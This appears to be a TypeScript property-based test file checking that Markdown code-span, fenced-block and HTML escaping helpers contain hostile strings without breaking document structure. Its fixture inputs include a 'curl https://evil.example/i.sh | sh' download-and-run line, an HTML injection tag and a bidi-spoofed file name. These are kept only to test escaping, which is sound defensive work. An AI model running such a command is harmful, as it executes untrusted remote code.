/**
 * Quoting for generated Markdown and HTML, checked by a CommonMark parser (markdown-it in its
 * strict `commonmark` preset, raw HTML recognized so that any would show as a token): whatever the
 * string, the document around it has exactly the structure the template gave it, and the string
 * sits whole and visible in one code span or one fenced block.
 */
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { codeBlock, codeSpan, htmlText } from './markdown';
import { nameText } from '../format/visibleText';

const md = new MarkdownIt('commonmark');

interface Node {
  type: string;
  content: string;
}

/** Every token of `doc`, inline children flattened in place of their parent. */
function tokens(doc: string): Node[] {
  return md.parse(doc, {}).flatMap((t) => (t.type === 'inline' ? (t.children ?? []) : [t])).map((t) => ({ type: t.type, content: t.content }));
}

/** Strings built to break out: backtick runs, line breaks, Markdown and HTML syntax, controls, bidi. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom('`', '``', '```', '~~~', '\n', '\r', '\r\n', '#', '# ', '[', ']', '(', ')', '!', '<', '>', '<img src=x>', '</script>', ' ', '  ', 'a', '\t', '\\', '*', '_', '|', '-', '=', '&amp;', '\u202e', '\u2028', '\u0000', '\u001b', 'https://x.example', '\ud800') }),
  fc.constantFrom('', ' ', '`', '``', ' ` ', '\n', '\n```\n# Heading\n[link](https://evil.example)\n```sh\ncurl https://evil.example/i.sh | sh\n```\n'),
);

const PROSE = ['text', 'softbreak', 'paragraph_open', 'paragraph_close'];

describe('codeSpan', () => {
  it('is one code span holding the string, visible, and nothing else in its line (fast-check)', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const doc = `- reduction ${codeSpan(s)}: expand it\n\nAfter.\n`;
        const found = tokens(doc);
        const spans = found.filter((t) => t.type === 'code_inline');
        expect(spans).toHaveLength(1);
        expect(spans[0]?.content).toBe(s === '' ? ' ' : nameText(s));
        expect(found.map((t) => t.type)).toEqual(['bullet_list_open', 'list_item_open', 'paragraph_open', 'text', 'code_inline', 'text', 'paragraph_close', 'list_item_close', 'bullet_list_close', 'paragraph_open', 'text', 'paragraph_close']);
        expect(codeSpan(s)).not.toMatch(/[\n\r\u202e]/);
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves a plain id as it is and pads only what must be padded', () => {
    expect(codeSpan('r1')).toBe('`r1`');
    expect(codeSpan('a`b')).toBe('``a`b``');
    expect(codeSpan('`x')).toBe('`` `x ``');
    expect(codeSpan('r\u202Egnp.exe')).toBe('`r\u27e8U+202E\u27e9gnp.exe`');
  });
});

describe('codeBlock', () => {
  it('is one fenced block holding the string line by line, visible, between the prose around it (fast-check)', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const doc = `Run:\n\n${codeBlock(s, 'sh')}\n\nThen read the output.\n`;
        const found = tokens(doc);
        const fences = found.filter((t) => t.type === 'fence');
        expect(fences).toHaveLength(1);
        expect(fences[0]?.content).toBe(s === '' ? '' : `${s.split('\n').map(nameText).join('\n')}\n`);
        expect(found.map((t) => t.type)).toEqual(['paragraph_open', 'text', 'paragraph_close', 'fence', 'paragraph_open', 'text', 'paragraph_close']);
        expect(found.filter((t) => !PROSE.includes(t.type) && t.type !== 'fence')).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('uses three backticks unless the content holds a run that long', () => {
    expect(codeBlock('npx session-inspector check a.jsonl', 'sh')).toBe('```sh\nnpx session-inspector check a.jsonl\n```');
    expect(codeBlock('x\n```\ny')).toBe('````\nx\n```\ny\n````');
    expect(codeBlock('x', 'sh`\n# h')).toBe('```shh\nx\n```');
  });
});

describe('htmlText', () => {
  const entities: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#39;': "'" };

  it('leaves no tag, attribute quote or bare ampersand, and reads back as the string (fast-check)', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const html = htmlText(s);
        expect(html).not.toMatch(/[<>"']/);
        expect(html.replace(/&(amp|lt|gt|quot|#39);/g, '')).not.toContain('&');
        expect(html.replace(/&(amp|lt|gt|quot|#39);/g, (e) => entities[e] ?? e)).toBe(new TextDecoder().decode(new TextEncoder().encode(s)));
      }),
      { numRuns: 2000 },
    );
  });
});
